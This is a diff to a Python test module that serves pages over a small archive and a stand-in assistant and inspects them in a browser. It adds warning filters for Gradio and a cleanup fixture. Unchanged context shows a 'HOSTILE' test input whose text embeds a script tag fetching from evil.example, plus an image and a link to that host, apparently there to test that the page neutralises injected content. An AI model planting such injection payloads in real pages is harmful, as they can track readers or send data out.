@@ -1,5 +1,6 @@
 """Two served pages, over a small real archive and over a stand-in for the assistant, and a browser to look at them."""
 
+import gc
 import json
 import shutil
 from collections.abc import Callable, Iterator
@@ -27,6 +28,11 @@ FLAGS = [
 ]
 SCREENSHOTS = Path(__file__).parents[2] / "screenshots"
 HOST = "127.0.0.1"
+# Gradio counts its events in a way that pandas has deprecated, and leaves sockets and event loops unclosed.
+GRADIOS_OWN_WARNINGS = [
+    pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning"),
+    pytest.mark.filterwarnings("ignore::ResourceWarning"),
+]
 # Everything that the machine has to do stays within this, in milliseconds, even when it is busy.
 PATIENCE = 60_000
 
@@ -65,6 +71,13 @@ HOSTILE = {
     "text": "The Vienna opera ball was cancelled ![x](http://evil.example/m.png) because of the "
     "<script>fetch('http://evil.example/s')</script> pandemic, the [chancellor](http://evil.example/l) said.",
 }
+
+
+@pytest.fixture(scope="module", autouse=True)
+def nothing_left_behind() -> Iterator[None]:
+    """What Gradio leaves unclosed is collected here, where that is no error, and not in the tests that follow."""
+    yield
+    gc.collect()
 
 
 @pytest.fixture(scope="session")
